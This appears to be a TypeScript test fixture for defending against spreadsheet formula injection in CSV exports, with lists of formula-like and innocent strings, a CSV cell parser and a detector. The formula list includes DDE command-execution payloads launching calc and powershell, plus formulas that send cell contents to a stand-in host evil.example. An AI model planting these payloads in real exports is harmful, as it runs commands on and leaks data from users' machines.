/** Texts that a spreadsheet would calculate, follow or run if it took them for a formula. */
export const formulas: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '  +1',
  '\u00A0@x',
  '\u3000-1',
  '\uFEFF=1+1',
  '\u200B=1',
  '\u202E=1',
  '\0=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' ＝1',
  '=',
  '-',
  '+',
  '@',
  '--1',
  '=-1',
  '+852 2345 6789',
  '-2+3+cmd|"/c calc"!A0',

  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  '=WEBSERVICE("https://evil.example/"&A2)',
  '=IMPORTXML("https://evil.example","//a")',
  "=cmd|'/c calc'!A0",

  "@SUM(1+1)*cmd|'/c calc'!A0",
  '+cmd|"/c powershell"!A0',
  '=DDE("cmd";"/c calc";"x")',
  '=1+1";=2+2',
  '=1+1\r\n=2+2',
  '=1,2',
  '="a""b"',
  "='[http://evil.example/x.xlsx]A'!A1",
]

/** These begin no formula, and stay as they are. */
export const innocent: readonly string[] = [
  // what is taken off: a number, as programs read it anyway
  '-5',
  '-180.00',
  'Harbour Tower',
  '1=1',
  'a+b',
  '5/F',
  '#1',
  "'=1+1",
  '"=1+1"',
  '(=1)',
  ',=1',
  ';=1',
  '陳大文',
  '$5',
  '%',
  '*',
  '/',
  '',
  ' ',
  'x\n=1+1',
  'x\r\n=1+1',
  'x,=1+1',
  'x";=1',
]

/** The cells of a sheet as a program reads them, with its mark, quotes and breaks inside of cells. */
export const cellsOf = (sheet: string): string[][] => {
  const rows: string[][] = [[]]
  for (const [, quoted, plain = '', end] of sheet.replace(/^\uFEFF/, '').matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'))
    if (end === '') break
    if (end === '\r\n') rows.push([])
  }
  return rows.filter((row, at) => at < rows.length - 1 || row.some((cell) => cell !== ''))
}

/** Would a spreadsheet calculate it? A number is no formula. */
export const calculates = (cell: string): boolean => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)
